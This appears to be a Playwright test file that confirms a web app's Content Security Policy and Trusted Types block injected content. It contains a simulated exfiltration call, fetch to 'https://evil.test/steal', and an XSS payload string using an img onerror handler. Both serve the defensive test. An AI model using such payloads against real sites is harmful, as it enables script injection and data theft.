import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { where } from './urls.ts';

/** What an injection would do, as far as it gets. */
const inject = (page: Page) =>
  page.evaluate(() => {
    const style = document.createElement('style');
    style.textContent = 'body { color: red }';
    document.head.append(style);
    const picture = document.createElement('img');
    picture.src = 'https://evil.test/picture.png';
    document.body.append(picture);
    void fetch('https://evil.test/steal').catch(() => {});
  });

const planted = [
  ['style-src-elem', /^console error: policy violated: style-src-elem inline$/],
  ['img-src', /^console error: policy violated: img-src https:\/\/evil\.test/],
  ['connect-src', /^console error: policy violated: connect-src https:\/\/evil\.test/],
] as const;

for (const app of ['portal', 'console'] as const)
  test(`a violation of the policy that is planted in the ${app} is heard, and would fail the test`, async ({
    page,
    trouble,
  }) => {
    await page.goto(where[app]);
    await page.waitForLoadState('load');
    await inject(page);
    for (const [what, pattern] of planted)
      await expect.poll(() => trouble.unexpected.some((each) => pattern.test(each)), { message: what }).toBe(true);
    trouble.expect(/policy violated/, /Content Security Policy/, /GET \/api\/me 401/, /evil\.test/);
  });

test('what a script cannot do: make a page of text', async ({ page, trouble }) => {
  await page.goto(where.portal);
  const outcome = await page.evaluate(() => {
    const tried: string[] = [];
    const attempts = {
      innerHTML: () => (document.body.innerHTML = '<img src=x onerror=alert(1)>'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      write: () => document.write('<b>x</b>'),
    };
    for (const [name, attempt] of Object.entries(attempts))
      try {
        attempt();
        tried.push(name);
      } catch {
        // refused, as it should be
      }
    return tried;
  });
  expect(outcome).toEqual([]);
  trouble.expect(/policy violated/, /Content Security Policy/, /TrustedHTML|TrustedScript|Trusted Type/);
});
